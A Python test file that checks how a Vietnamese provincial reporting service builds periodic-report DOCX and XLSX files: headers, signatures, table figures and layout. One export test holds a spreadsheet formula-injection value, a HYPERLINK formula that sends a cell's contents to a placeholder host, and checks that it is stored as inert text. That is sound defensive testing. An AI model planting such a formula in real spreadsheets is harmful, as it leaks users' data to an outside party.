"""The periodic report's document, built from figures given here: its header and signature
follow the reporting unit (a People's Committee or a body under one), and no section is cut
silently."""

import io
from datetime import date
from typing import Any

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Pt

from services.reports.documents import FONT, QUOTED, PeriodicReport, docx_bytes
from shared.periods import Period
from shared.vocabularies import CONTENT_AREAS, PRODUCT_KINDS

pytestmark = pytest.mark.unit

FIGURES = {
    "expected": 0,
    "reported": 0,
    "on_time": 0,
    "completeness": None,
    "timeliness": None,
    "states": dict.fromkeys(("done_on_time", "done_late", "in_progress", "overdue", "not_due"), 0),
}


def report(name: str, level: str, parent: str | None, good_models: int = 0) -> PeriodicReport:
    quoted = [
        {"unit": "b", "name": name, "task_ref": "1", "task_title": "Tuyên truyền", "text": f"Mô hình số {i}"}
        for i in range(good_models)
    ]
    return PeriodicReport(
        unit="x",
        unit_name=name,
        unit_level=level,
        parent_name=parent,
        period=Period.parse("2026-H1"),
        view="current",
        issued_on=date(2026, 7, 3),
        number="",
        totals=FIGURES,
        outputs={},
        outputs_by_area={},
        tasks=[],
        children=[],
        lagging=[],
        highlights={"good_models": quoted},
    )


def test_a_commune_signs_for_its_peoples_committee() -> None:
    commune = report("Xã Ia Hrú", "commune", "Tỉnh Gia Lai")
    assert commune.issuer_lines == [("ỦY BAN NHÂN DÂN XÃ IA HRÚ", {"bold": True, "size": 13})]
    assert commune.signature == ["TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH"]
    assert commune.place == "Ia Hrú"


def test_a_body_is_named_under_its_governing_committee_and_signed_by_its_head() -> None:
    body = report("Phòng Văn hóa - Xã hội", "body", "Xã Ia Hrú")
    assert [text for text, _ in body.issuer_lines] == ["ỦY BAN NHÂN DÂN XÃ IA HRÚ", "PHÒNG VĂN HÓA - XÃ HỘI"]
    assert [style.get("bold", False) for _, style in body.issuer_lines] == [False, True]
    assert body.signature == ["TRƯỞNG PHÒNG"]
    document = Document(io.BytesIO(docx_bytes(body)))
    assert document.tables[0].rows[0].cells[0].text == "ỦY BAN NHÂN DÂN XÃ IA HRÚ\nPHÒNG VĂN HÓA - XÃ HỘI\n"
    assert document.tables[-1].rows[0].cells[1].text.startswith("TRƯỞNG PHÒNG\n(Ký, ghi rõ họ tên, đóng dấu)")
    assert report("Trung tâm Văn hóa", "body", "Xã Ia Hrú").signature == ["THỦ TRƯỞNG CƠ QUAN"]


def test_a_long_section_quotes_the_first_lines_and_says_how_many_more() -> None:
    texts = [p.text for p in Document(io.BytesIO(docx_bytes(report("Xã A", "commune", None, 57)))).paragraphs]
    quoted = [text for text in texts if "Mô hình số" in text]
    assert len(quoted) == QUOTED and quoted[-1].endswith(f"Mô hình số {QUOTED - 1}")
    assert "- Và 7 mô hình khác (chi tiết tại tệp Excel kèm theo, trang “Ý kiến”)." in texts
    few = [p.text for p in Document(io.BytesIO(docx_bytes(report("Xã A", "commune", None, 3)))).paragraphs]
    assert sum("Mô hình số" in text for text in few) == 3 and not any(text.startswith("- Và") for text in few)


def test_what_an_official_typed_is_exported_as_text_whatever_it_holds() -> None:
    """A control character in a note made every ancestor's DOCX and XLSX fail; a note starting
    with '=' was written into the XLSX as a formula."""
    from openpyxl import load_workbook

    from services.reports.documents import xlsx_bytes

    typed = report("Xã Ia Hrú", "commune", "Tỉnh Gia Lai", good_models=1)
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")'
    typed.highlights["good_models"][0]["text"] = "Mô hình\u0007 hay\x0b" + "\ufffe"
    typed.highlights["good_models"].append({**typed.highlights["good_models"][0], "text": formula})

    text = "\n".join(p.text for p in Document(io.BytesIO(docx_bytes(typed))).paragraphs)
    assert "Mô hình hay" in text and "\u0007" not in text

    workbook = load_workbook(io.BytesIO(xlsx_bytes(typed)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(cell.value == "Mô hình hay" for cell in cells)
    typed_formula = [cell for cell in cells if str(cell.value).startswith("=")]
    assert [cell.value for cell in typed_formula] == [formula]
    assert all(cell.data_type == "s" for cell in typed_formula)


# --- every row of every table: the rows are copies of one template, given their texts --------

AREAS = ["procedures", "general", "digital_government", "sipas", ""]
KINDS = ["broadcast", "news", "leaflet", "reach"]


def rates(expected: int, reported: int, on_time: int) -> dict[str, float | None]:
    return {
        "completeness": round(reported / expected, 4) if expected else None,
        "timeliness": round(on_time / expected, 4) if expected else None,
    }


def full_report() -> PeriodicReport:
    """A province's report whose every cell differs from its neighbours, with names an official
    could type (a tab, a line break, a leading space, markup characters), more lines to quote
    than a section shows, and a unit with no assignment."""
    names = ["Xã Ia Hrú", "Phường\tQuy Nhơn", "Xã Kbang\nmới", " Xã Chư Sê", 'Xã <An> & "Bình"']
    children: list[dict[str, Any]] = []
    for i in range(40):
        expected = 0 if i == 7 else 20 + i
        reported, on_time = max(0, expected - i % 6), max(0, expected - i % 6 - i % 4)
        children.append(
            {
                "unit": f"{23000 + i}",
                "name": f"{names[i % len(names)]} {i}",
                "level": "commune" if i % 9 else "body",
                "expected": expected,
                "reported": reported,
                "on_time": on_time,
                **rates(expected, reported, on_time),
            }
        )
    tasks: list[dict[str, Any]] = []
    for i in range(12):
        expected, reported, on_time = 135 + i, 120 + i, 100 + 2 * i
        tasks.append(
            {
                "plan_id": f"plan-{i // 8}",
                "plan_number": f"{12 + i // 8}/KH-UBND",
                "plan_title": "Kế hoạch tuyên truyền",
                "task_ref": str(i % 8 + 1) if i < 8 else f"II.{i - 7}",
                "task_title": f"Nhiệm vụ số {i}: tuyên truyền cải cách hành chính",
                "area": AREAS[i % len(AREAS)] or None,
                "expected": expected,
                "reported": reported,
                "on_time": on_time,
                **rates(expected, reported, on_time),
                "outputs": {kind: 10 * i + k for k, kind in enumerate(KINDS) if (i + k) % 3},
            }
        )
    outputs = {kind: sum(task["outputs"].get(kind, 0) for task in tasks) for kind in KINDS}
    by_area: dict[str, dict[str, int]] = {}
    for task in tasks:
        for kind, n in task["outputs"].items():
            area = by_area.setdefault(task["area"] or "", {})
            area[kind] = area.get(kind, 0) + n
    lagging = [
        {
            "unit": f"{23000 + i}",
            "name": f"Xã số {i}",
            "missing": 1 + i % 5,
            "expected": 20,
            "earliest_due": f"2026-{1 + i % 3:02d}-{10 + i % 15}",
            "days_late": 90 - i,
        }
        for i in range(60)
    ]

    def said(kind: str, n: int) -> list[dict[str, Any]]:
        return [
            {
                "assignment_id": f"{kind}-{i}",
                "unit": f"{23000 + i}",
                "name": f"Xã số {i}",
                "task_ref": str(1 + i % 8),
                "task_title": f"Nhiệm vụ số {i % 8}",
                "text": f"{kind} {i}: =SUM(A1:A3)" if i == 2 else f"{kind} {i}: nội dung",
            }
            for i in range(n)
        ]

    expected = sum(task["expected"] for task in tasks)
    reported = sum(task["reported"] for task in tasks)
    on_time = sum(task["on_time"] for task in tasks)
    return PeriodicReport(
        unit="52",
        unit_name="Tỉnh Gia Lai",
        unit_level="province",
        parent_name=None,
        period=Period.parse("2026-Q1"),
        view="current",
        issued_on=date(2026, 4, 6),
        number="15/BC-UBND",
        totals={
            "expected": expected,
            "reported": reported,
            "on_time": on_time,
            **rates(expected, reported, on_time),
            "states": {"done_on_time": 1, "done_late": 2, "in_progress": 3, "overdue": 4, "not_due": 5},
        },
        outputs=outputs,
        outputs_by_area=by_area,
        tasks=tasks,
        children=children,
        lagging=lagging,
        highlights={
            "good_models": said("good_models", 3),
            "cannot_do": said("cannot_do", 30),
            "notes": said("notes", 30),
        },
        signer="Nguyễn Văn Bình",
    )


def vn_percent(rate: float | None) -> str:
    return "—" if rate is None else f"{rate * 100:.1f}".replace(".", ",") + "%"


def test_every_row_of_the_docx_tables_holds_the_figures_of_its_unit_and_task() -> None:
    report = full_report()
    document = Document(io.BytesIO(docx_bytes(report)))
    units, tasks = document.tables[1], document.tables[2]

    assert [cell.text for cell in units.rows[0].cells] == [
        "STT", "Đơn vị", "Cấp", "Phải báo cáo", "Đã báo cáo", "Đúng hạn", "Tỷ lệ đầy đủ", "Tỷ lệ đúng hạn",
    ]  # fmt: skip
    levels = {"commune": "Cấp xã", "body": "Cơ quan"}
    assert [[cell.text for cell in row.cells] for row in units.rows[1:]] == [
        [
            str(i),
            child["name"],
            levels[child["level"]],
            str(child["expected"]),
            str(child["reported"]),
            str(child["on_time"]),
            vn_percent(child["completeness"]),
            vn_percent(child["timeliness"]),
        ]
        for i, child in enumerate(report.children, 1)
    ]
    assert [cell.text for cell in units.rows[8].cells][3:] == ["0", "0", "0", "—", "—"]  # no assignment
    assert [cell.text for cell in units.rows[2].cells][:2] == ["2", "Phường\tQuy Nhơn 1"]
    assert units.rows[3].cells[1].text == "Xã Kbang\nmới 2" and units.rows[4].cells[1].text == " Xã Chư Sê 3"
    assert units.rows[5].cells[1].text == 'Xã <An> & "Bình" 4'
    assert [cell.text for cell in units.rows[10].cells][6:] == ["89,7%", "86,2%"]  # 26/29, 25/29

    assert [[cell.text for cell in row.cells] for row in tasks.rows[1:]] == [
        [
            task["task_ref"],
            task["task_title"],
            task["plan_number"],
            str(task["expected"]),
            str(task["reported"]),
            str(task["on_time"]),
            "; ".join(f"{PRODUCT_KINDS[kind]}: {n}" for kind, n in sorted(task["outputs"].items())),
        ]
        for task in report.tasks
    ]
    assert tasks.rows[3].cells[6].text == "Chương trình phát thanh, truyền thanh: 20; Tờ rơi: 22; Lượt tiếp cận: 23"


def test_every_row_of_a_docx_table_has_the_first_rows_cell_format() -> None:
    """Widths, alignment (name columns left), Times New Roman 12, bold only in the header."""
    document = Document(io.BytesIO(docx_bytes(full_report())))
    for table, widths in (
        (document.tables[1], [10, 45, 15, 20, 20, 18, 18, 19]),
        (document.tables[2], [12, 55, 25, 18, 18, 17, 20]),
    ):
        for index, row in enumerate(table.rows):
            assert [round(cell.width.mm) for cell in row.cells] == widths
            for column, cell in enumerate(row.cells):
                (paragraph,) = cell.paragraphs
                left = index > 0 and column in (1, 2)
                assert paragraph.alignment == (WD_ALIGN_PARAGRAPH.LEFT if left else WD_ALIGN_PARAGRAPH.CENTER)
                (run,) = [run for run in paragraph.runs if run.text]  # the text is in the formatted run
                assert (run.font.name, run.font.size, run.bold, run.italic) == (FONT, Pt(12), index == 0, False)
                assert run._element.rPr.rFonts.get(qn("w:eastAsia")) == FONT


def test_the_quoted_lines_are_body_paragraphs_in_order_then_how_many_more() -> None:
    report = full_report()
    paragraphs = Document(io.BytesIO(docx_bytes(report))).paragraphs
    texts = [p.text for p in paragraphs]
    late = texts.index("III. ĐƠN VỊ CHẬM BÁO CÁO")
    assert texts[late + 1 : late + 1 + QUOTED + 1] == [
        f"- {row['name']}: thiếu {row['missing']} báo cáo, chậm {row['days_late']} ngày "
        f"(hạn đầu tiên {date.fromisoformat(row['earliest_due']):%d/%m/%Y})."
        for row in report.lagging[:QUOTED]
    ] + ["- Và 10 đơn vị khác (chi tiết tại tệp Excel kèm theo, trang “Chậm báo cáo”)."]
    hard = texts.index("V. KHÓ KHĂN, VƯỚNG MẮC VÀ KIẾN NGHỊ")
    said = report.highlights["cannot_do"] + report.highlights["notes"]
    assert texts[hard + 1 : hard + 1 + QUOTED] == [
        f"- {s['name']} ({s['task_title']}): {s['text']}" for s in said[:QUOTED]
    ]
    assert texts[hard + 1 + QUOTED] == "- Và 10 ý kiến khác (chi tiết tại tệp Excel kèm theo, trang “Ý kiến”)."
    areas = texts.index("Sản phẩm theo lĩnh vực:")
    assert (
        texts[areas + 1]
        == "- Chưa phân loại: "
        + "; ".join(f"{PRODUCT_KINDS[kind]}: {n}" for kind, n in sorted(report.outputs_by_area[""].items()))
        + "."
    )
    for paragraph in paragraphs[late + 1 : late + 1 + QUOTED + 1] + paragraphs[areas + 1 : areas + 6]:
        assert paragraph.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY
        indent = paragraph.paragraph_format.first_line_indent
        assert indent is not None and round(indent.mm) == 10
        assert paragraph.paragraph_format.space_after == Pt(3)
        (run,) = paragraph.runs
        assert (run.font.name, run.font.size, run.bold, run.italic) == (FONT, Pt(14), False, False)


def test_every_row_and_total_of_the_xlsx_holds_the_reports_figures() -> None:
    from openpyxl import load_workbook

    from services.reports.documents import xlsx_bytes

    report = full_report()
    book = load_workbook(io.BytesIO(xlsx_bytes(report)))
    assert book.sheetnames == ["Nhiệm vụ", "Đơn vị", "Chậm báo cáo", "Ý kiến"]

    def rows(title: str) -> list[tuple[Any, ...]]:
        return list(book[title].iter_rows(min_row=3, values_only=True))

    def rate(value: float | None) -> float | None:
        return None if value is None else round(value * 100, 2)

    kinds = sorted(KINDS)
    header = next(book["Nhiệm vụ"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert header[9:] == tuple(PRODUCT_KINDS[kind] for kind in kinds)
    *by_task, total = rows("Nhiệm vụ")
    assert by_task == [
        (
            task["task_ref"],
            task["plan_number"],
            task["task_title"],
            CONTENT_AREAS.get(task["area"] or "") or None,
            task["expected"],
            task["reported"],
            task["on_time"],
            rate(task["completeness"]),
            rate(task["timeliness"]),
            *(task["outputs"].get(kind, 0) for kind in kinds),
        )
        for task in report.tasks
    ]
    totals = report.totals
    assert total == (
        None, None, "Tổng cộng", None, totals["expected"], totals["reported"], totals["on_time"],
        rate(totals["completeness"]), rate(totals["timeliness"]), *(report.outputs[kind] for kind in kinds),
    )  # fmt: skip
    assert total[4] == sum(row[4] for row in by_task)
    assert list(total[9:]) == [sum(row[9 + k] for row in by_task) for k in range(len(kinds))]

    *by_unit, unit_total = rows("Đơn vị")
    assert [row[:6] for row in by_unit[:40]] == [
        (
            c["unit"],
            c["name"],
            {"commune": "Cấp xã", "body": "Cơ quan"}[c["level"]],
            c["expected"],
            c["reported"],
            c["on_time"],
        )
        for c in report.children
    ]
    # the province's own tasks, outside its communes, make the last row: the total is whole
    assert by_unit[40][:3] == ("52", "Tỉnh Gia Lai (trực tiếp)", "Cấp tỉnh") and len(by_unit) == 41
    assert unit_total[3:6] == (totals["expected"], totals["reported"], totals["on_time"])
    assert tuple(sum(row[i] for row in by_unit) for i in (3, 4, 5)) == unit_total[3:6]

    *late, late_total = rows("Chậm báo cáo")
    assert late == [
        (
            row["unit"],
            row["name"],
            row["missing"],
            f"{date.fromisoformat(row['earliest_due']):%d/%m/%Y}",
            row["days_late"],
        )
        for row in report.lagging
    ]
    assert late_total[1:3] == ("Tổng cộng", sum(row["missing"] for row in report.lagging))

    *said, said_total = rows("Ý kiến")
    labels = {"good_models": "Mô hình hay", "cannot_do": "Không thực hiện được", "notes": "Ghi chú, kiến nghị"}
    assert said == [
        (labels[kind], s["unit"], s["name"], s["task_ref"], s["task_title"], s["text"])
        for kind in labels
        for s in report.highlights[kind]
    ]
    assert said_total[2:] == ("Tổng cộng", None, None, 63)


def test_the_xlsx_sheets_keep_their_layout() -> None:
    """Caption in bold 13, a bold header on a tinted fill, every cell boxed and wrapped, numbers
    as numbers, the first two rows frozen, the long text columns wide."""
    from openpyxl import load_workbook

    from services.reports.documents import xlsx_bytes

    book = load_workbook(io.BytesIO(xlsx_bytes(full_report())))
    for sheet in book:
        assert sheet.freeze_panes == "A3"
        assert (sheet["A1"].font.name, sheet["A1"].font.b, sheet["A1"].font.sz) == (FONT, True, 13)
        header = [cell.value for cell in sheet[2]]
        assert [sheet.column_dimensions[cell.column_letter].width for cell in sheet[2]] == [
            45 if name in ("Nhiệm vụ", "Đơn vị", "Nội dung") else 15 for name in header
        ]
        last = sheet.max_row
        for row in sheet.iter_rows(min_row=2, max_row=last):
            for cell in row:
                assert (cell.font.name, cell.font.sz, cell.font.b) == (FONT, 12, cell.row in (2, last))
                assert cell.border.left.style == cell.border.bottom.style == "thin"
                assert cell.alignment.wrap_text and cell.alignment.vertical == "top"
                assert (cell.fill.fgColor.rgb == "00DDE7F0") == (cell.row == 2)
                if isinstance(cell.value, int | float):
                    assert cell.data_type == "n"
                elif cell.value is not None:
                    assert cell.data_type == "s"
    formula = next(c for row in book["Ý kiến"].iter_rows() for c in row if str(c.value).endswith("=SUM(A1:A3)"))
    assert formula.data_type == "s"
